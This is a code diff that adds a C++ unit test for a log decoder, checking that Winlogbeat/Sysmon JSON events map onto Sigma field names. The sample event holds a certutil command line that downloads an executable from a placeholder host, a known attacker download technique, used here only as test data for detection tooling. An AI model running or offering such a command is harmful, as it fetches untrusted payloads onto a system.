@@ -428,6 +428,27 @@ TEST(JsonTest, WindowsEventShapeGetsSigmaNames) {
   EXPECT_TRUE(Has(ev.services, "sysmon"));
 }
 
+TEST(JsonTest, WinlogbeatShapeGetsSigmaNames) {
+  Event ev = Decode(
+      R"({"@timestamp":"2026-11-28T10:00:00.000Z","event":{"code":"1","provider":"Microsoft-Windows-Sysmon"},)"
+      R"("winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon",)"
+      R"("computer_name":"pc1.belediye.local","record_id":12345,"process":{"pid":2100,"thread":{"id":3000}},)"
+      R"("event_data":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe","ParentImage":"C:\\Windows\\explorer.exe"}}})");
+  EXPECT_EQ(F(ev, "Image"), "C:\\Windows\\System32\\certutil.exe");
+  EXPECT_EQ(F(ev, "CommandLine"), "certutil -urlcache -f http://x/a.exe a.exe");
+  EXPECT_EQ(F(ev, "EventID"), "1");
+  EXPECT_EQ(F(ev, "Channel"), "Microsoft-Windows-Sysmon/Operational");
+  EXPECT_EQ(F(ev, "Provider_Name"), "Microsoft-Windows-Sysmon");
+  EXPECT_EQ(F(ev, "Computer"), "pc1.belediye.local");
+  EXPECT_EQ(F(ev, "EventRecordID"), "12345");
+  EXPECT_TRUE(Has(ev.products, "windows"));
+  EXPECT_TRUE(Has(ev.categories, "process_creation"));
+  EXPECT_TRUE(Has(ev.services, "sysmon"));
+  // Generic JSON that merely has a "winlog" key of another meaning is not Windows.
+  Event other = Decode(R"({"winlog":"rotated","app":"x"})");
+  EXPECT_FALSE(Has(other.products, "windows"));
+}
+
 // Aliases copy values from fields of the same event; growing the field list
 // must not invalidate them (short strings live inside the entries).
 TEST(JsonTest, AliasesOfShortValuesSurviveGrowth) {
